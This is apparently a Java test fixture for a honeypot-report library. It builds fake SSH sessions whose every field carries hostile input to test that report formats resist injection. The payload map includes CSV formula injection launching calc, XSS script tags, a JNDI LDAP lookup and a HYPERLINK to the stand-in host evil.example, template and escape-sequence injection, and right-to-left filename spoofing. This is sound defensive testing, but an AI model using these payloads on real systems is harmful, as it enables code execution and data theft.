package io.github.cowriekit.report;

import io.github.cowriekit.model.Client;
import io.github.cowriekit.model.Command;
import io.github.cowriekit.model.Download;
import io.github.cowriekit.model.Endpoint;
import io.github.cowriekit.model.EnvironmentVariable;
import io.github.cowriekit.model.FileOrigin;
import io.github.cowriekit.model.Forward;
import io.github.cowriekit.model.Login;
import io.github.cowriekit.model.Session;
import io.github.cowriekit.model.SessionBuilder;
import io.github.cowriekit.model.SessionEnd;
import io.github.cowriekit.model.Upload;
import io.github.cowriekit.model.intel.CustomFacts;
import io.github.cowriekit.model.intel.EnrichedSession;
import io.github.cowriekit.model.intel.EnrichmentResult;
import io.github.cowriekit.model.intel.Observable;
import io.github.cowriekit.model.intel.Reason;
import io.github.cowriekit.model.intel.dshield.DshieldFacts;
import io.github.cowriekit.model.intel.urlhaus.UrlhausHostFacts;
import io.github.cowriekit.model.intel.virustotal.VirusTotalFileFacts;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;

/** Sessions of attackers who know that somebody writes reports; every format must survive all of them. */
final class EvilSessions {
    static final String SHA256 = "bb4c8ee23103cd57741a1008552dae1038c17c505dd16f80571d795d91892cad";

    private static final Instant AT = Instant.parse("2023-05-24T06:23:58.906514Z");
    private static final String SOURCE = "198.51.100.7";

    private EvilSessions() {}

    /** Returns the payloads that are put into every place that an attacker or a service fills, by name. */
    static Map<String, String> payloads() {
        Map<String, String> payloads = new LinkedHashMap<>();
        payloads.put("ansi", "\u001b]0;owned\u0007\u001b[2J\u001b[31mred");
        payloads.put("c1", "\u009b31m\u0085next");
        payloads.put(
                "forged block",
                "id\n\n\n" + "X".repeat(96) + "\n\n                       Session  f0f0f0f0f0f0\n"
                        + "              Session Duration  1.00 seconds");
        payloads.put("forged row", "a\"\r\n\"f0f0f0f0f0f0\",\"x\"\r\n");
        payloads.put("forged header", "a\r\nf0f0f0f0f0f0: 1\r\n");
        payloads.put("formula", "=HYPERLINK(\"http://evil.example/\",\"click\")");
        payloads.put("formula behind a space", " +cmd|' /C calc'!A0");
        payloads.put("formula at", "@SUM(1+1)*cmd|' /C calc'!A0");
        payloads.put("script", "</script><script>alert(1)</script><img src=x onerror=alert(2)>");
        payloads.put("comment", "<!--<script>--!>]]></style>");
        payloads.put("cdata", "]]><x/>&amp;&lt;");
        payloads.put(
                "markdown", "```\n# Session f0f0f0f0f0f0\n[x](javascript:alert(1)) | `a` | ![](http://evil.example/p)");
        payloads.put("cef", "a|b=c\\|d\\=e");
        payloads.put("template", "${jndi:ldap://evil.example/a} {{7*7}} %n%s <%= 1 %>");
        payloads.put("right to left", "\u202egpj.exe\u2066\u2069\u200f");
        payloads.put("nul", "a\u0000b");
        payloads.put("half pairs", "\ud83d a \ude00 \udc80");
        payloads.put("line separators", "a\u2028b\u2029c\u000bd\u000ce");
        payloads.put("quotes", "\"'`\\\"\\'");
        payloads.put("emoji", "\ud83d\ude00 e\u0301 \u4f60");
        payloads.put("blank", " ");
        payloads.put("empty", "");
        return payloads;
    }

    static Map<String, EnrichedSession> byName() {
        Map<String, EnrichedSession> sessions = new LinkedHashMap<>();
        payloads().forEach((name, payload) -> sessions.put(name, everywhere(payload)));
        sessions.put("long command", of(session().commands(List.of(command("x".repeat(100_000))))));
        sessions.put("many commands", of(session().commands(Collections.nCopies(27_742, command("echo \"a\"")))));
        sessions.put("many downloads", of(session().downloads(downloads(10_000))));
        sessions.put("long password", of(session().logins(List.of(login("root", "p".repeat(64 * 1024))))));
        sessions.put("many logins", of(session().logins(Collections.nCopies(5_000, login("root", "x")))));
        sessions.put("nothing", of(Session.builder("bare", SessionEnd.EVICTED)));
        return sessions;
    }

    private static EnrichedSession everywhere(String payload) {
        Session session = session()
                .sensor(payload)
                .client(new Client(payload, null, null, List.of(new EnvironmentVariable(payload, payload))))
                .logins(List.of(login(payload, payload)))
                .commands(List.of(command(payload), command("echo " + payload)))
                .downloads(List.of(download("http://evil.example/" + payload, payload), download(payload, payload)))
                .uploads(List.of(Upload.builder(FileOrigin.SCP)
                        .at(AT)
                        .url(payload)
                        .filename(payload)
                        .destination(payload)
                        .sha256(SHA256)
                        .build()))
                .forwards(List.of(Forward.builder()
                        .at(AT)
                        .targetHost(payload)
                        .targetPort(25)
                        .originIp(payload)
                        .build()))
                .build();
        return new EnrichedSession(session, answers(payload));
    }

    private static List<EnrichmentResult> answers(String payload) {
        Observable source = Observable.ip(SOURCE);
        Observable file = Observable.sha256(SHA256);
        List<EnrichmentResult> results = new ArrayList<>();
        results.add(Diary.found(
                "dshield",
                source,
                DshieldFacts.builder().asName(payload).asCountry(payload).build()));
        results.add(Diary.found(
                "urlhaus",
                source,
                UrlhausHostFacts.builder()
                        .urls(List.of(new UrlhausHostFacts.Url(
                                null, null, null, null, null, null, null, null, null, List.of(payload, "elf"))))
                        .build()));
        results.add(Diary.found(
                "virustotal",
                file,
                VirusTotalFileFacts.builder()
                        .typeDescription(payload)
                        .threatLabel(payload)
                        .build()));
        results.add(Diary.found("own", source, new CustomFacts(Map.of("word", payload))));
        results.add(new EnrichmentResult.Failed(file, "urlhaus", Diary.FETCHED, Reason.OTHER, payload));
        return results;
    }

    private static EnrichedSession of(SessionBuilder session) {
        return EnrichedSession.of(session.build());
    }

    private static SessionBuilder session() {
        return Session.builder("aaaaaaaaaaaa", SessionEnd.CLOSED)
                .sensor("sensor")
                .protocol("ssh")
                .source(new Endpoint(SOURCE, 40_022))
                .startedAt(AT)
                .endedAt(AT.plusSeconds(10))
                .duration(Duration.ofSeconds(10))
                .logins(List.of(login("root", "x")))
                .eventCounts(Map.of("cowrie.log.closed", 1L, "cowrie.command.input", 2L));
    }

    private static Login login(String username, String password) {
        return Login.builder()
                .at(AT)
                .username(username)
                .password(password)
                .success(true)
                .build();
    }

    private static Command command(String input) {
        return new Command(AT.plusSeconds(1), input, false, null);
    }

    private static List<Download> downloads(int number) {
        return IntStream.range(0, number)
                .mapToObj(i -> download("http://evil.example/" + i, "/tmp/" + i))
                .toList();
    }

    private static Download download(String url, String destination) {
        return Download.builder(FileOrigin.URL)
                .at(AT)
                .url(url)
                .host("evil.example")
                .sha256(SHA256)
                .destination(destination)
                .build();
    }
}
